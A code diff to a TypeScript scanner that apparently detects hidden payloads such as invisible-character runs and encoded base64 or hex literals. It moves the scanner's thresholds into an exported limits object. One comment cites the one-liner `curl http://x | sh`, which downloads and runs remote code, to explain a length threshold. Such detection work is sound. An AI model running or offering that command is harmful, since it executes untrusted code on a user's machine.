@@ -69,9 +69,18 @@ const RTL_LETTER =
 const LATIN = /\p{Script=Latin}/u;
 const CYRILLIC = /\p{Script=Cyrillic}/u;
 const WORD_CHAR = /[\p{L}\p{M}\p{N}_]/u;
-/** A run this long of invisible characters is a payload (an encoded message), not a stray mark. */
-const PAYLOAD_RUN = 8;
-const MARKS_PER_RULE = 50;
+/** Bounds of the pass (docs/limits.md checks each against the code). */
+export const NORMALISE_LIMITS = {
+  /** A run this long of invisible characters is a payload (an encoded message), not a stray mark. */
+  payloadRun: 8,
+  /** A file full of invisible marks is one problem said this many times, not a finding per character. */
+  marksPerRule: 50,
+  /** The shortest base64 or hex run decoded: 24 characters of base64 are 18 bytes, `curl http://x | sh`. */
+  minLiteral: 24,
+  /** Literals inside decoded literals are followed this deep (a payload encoded twice), no deeper. */
+  decodeDepth: 2,
+} as const;
+const { payloadRun: PAYLOAD_RUN, marksPerRule: MARKS_PER_RULE, minLiteral: MIN_LITERAL } = NORMALISE_LIMITS;
 
 const MARKUP_FILE = /\.(?:md|markdown|mdx|html?)$/i;
 
@@ -279,7 +288,6 @@ class Pass {
     }
   }
 
-  /** A file full of them is one problem said MARKS_PER_RULE times, not a finding per character. */
   private mark(mark: NormaliseMark): void {
     const seen = (this.seen.get(mark.rule) ?? 0) + 1;
     this.seen.set(mark.rule, seen);
@@ -418,7 +426,7 @@ function referenced(ref: RegExpExecArray): string | undefined {
  * match consumes its run: linear. What does not decode to printable UTF-8 (hashes, random test
  * data, identifiers) is dropped.
  */
-const LITERAL = /[A-Za-z0-9+/_-]{24,}={0,2}/g;
+const LITERAL = new RegExp(`[A-Za-z0-9+/_-]{${MIN_LITERAL},}={0,2}`, "g");
 const HEX = /^(?:[0-9a-fA-F]{2})+$/;
 const STRICT_UTF8 = new TextDecoder("utf-8", { fatal: true });
 
